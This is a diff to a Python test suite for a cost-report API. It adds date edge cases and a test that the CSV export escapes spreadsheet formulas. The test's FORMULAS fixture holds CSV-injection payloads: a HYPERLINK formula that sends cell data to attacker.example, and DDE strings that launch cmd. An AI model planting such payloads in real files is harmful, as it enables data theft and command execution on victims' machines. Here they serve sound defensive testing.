@@ -336,6 +336,9 @@ def test_a_deleted_conversations_spend_stays_its_users(start_server, fake, datab
         {"group_by": "day,day"},
         {"group_by": "generation"},  # line items are CSV only
         {"format": "xml"},
+        {"to": "9999-12-31"},  # its day's end is past the last date Python has
+        {"to": "0001-01-05"},  # the default `from`, 30 days before, is before the first
+        {"from": "0001-01-01", "to": "0001-01-02"},
     ],
 )
 def test_bad_parameters_are_422_invalid_query(start_server, params):
@@ -396,6 +399,7 @@ async def _bulk(url: str, count: int) -> None:
         await database.disconnect()
 
 
+@pytest.mark.slow
 def test_a_100k_generation_export_streams_in_bounded_memory(start_server, database):
     count = 100_000
     asyncio.run(_bulk(database.url, count))
@@ -493,3 +497,61 @@ def test_a_reports_range_is_written_into_its_sql_not_sent_as_a_parameter():
     assert "'2026-01-01 00:00:00+00:00'" in compiled.string, compiled.string
     assert "'2027-01-01 00:00:00+00:00'" in compiled.string, compiled.string
     assert not any(isinstance(value, datetime) for value in compiled.params.values())
+
+
+FORMULAS = {
+    "user": '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
+    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "requested_model": "+cmd|' /C calc'!A0",
+    "error_code": "-2+3+cmd|' /C calc'!A0",
+    "generation_id": "\t=1+1",
+    "message_id": "\r=1+1",
+}
+
+
+def test_csv_cells_from_users_and_upstream_cannot_run_as_spreadsheet_formulas(
+    start_server, database
+):
+    # OWASP's CSV injection advice: a cell starting with = + - @, tab or CR is prefixed with a
+    # single quote, so a spreadsheet shows it as text instead of evaluating it.
+    _, [row] = _ledger(count=1)
+    hostile_rows = []
+    for user in (FORMULAS["user"], "dev"):
+        hostile_rows.append(
+            {
+                **row,
+                "id": f"g-{user == 'dev'}",
+                "user_id": user,
+                "generation_id": FORMULAS["generation_id"],
+                "message_id": FORMULAS["message_id"],
+                "model": FORMULAS["model"],
+                "requested_model": FORMULAS["requested_model"],
+                "error_code": FORMULAS["error_code"],
+                "started_at": datetime.combine(START, datetime.min.time(), tzinfo=UTC),
+            }
+        )
+    conv = {"id": row["conversation_id"], "user_id": "dev", "agent": "chat"}
+    asyncio.run(_seed(database.url, [conv], hostile_rows))
+    server = start_server(admin_token=ADMIN)
+    day = {"from": START.isoformat(), "to": START.isoformat(), "format": "csv"}
+    tables = []
+    for path, headers, group_by in (
+        ("/api/admin/costs", AUTH, "user,model"),
+        ("/api/admin/costs", AUTH, "generation"),
+        ("/api/me/costs", {}, "model"),
+        ("/api/me/costs", {}, "generation"),
+    ):
+        response = httpx.get(
+            f"{server.url}{path}", params={**day, "group_by": group_by}, headers=headers
+        )
+        assert response.status_code == 200, response.text
+        tables.append(list(csv.DictReader(io.StringIO(response.text, newline=""))))
+    by_user, items, mine, my_items = tables
+    assert sorted(r["user"] for r in by_user) == sorted(["dev", "'" + FORMULAS["user"]])
+    assert {r["model"] for r in by_user + mine} == {"'" + FORMULAS["model"]}
+    for item in items + my_items:
+        for name in ("model", "requested_model", "error_code", "generation_id", "message_id"):
+            assert item[name] == "'" + FORMULAS[name], (name, item[name])
+    for table in tables:
+        for record in table:
+            assert not [v for v in record.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
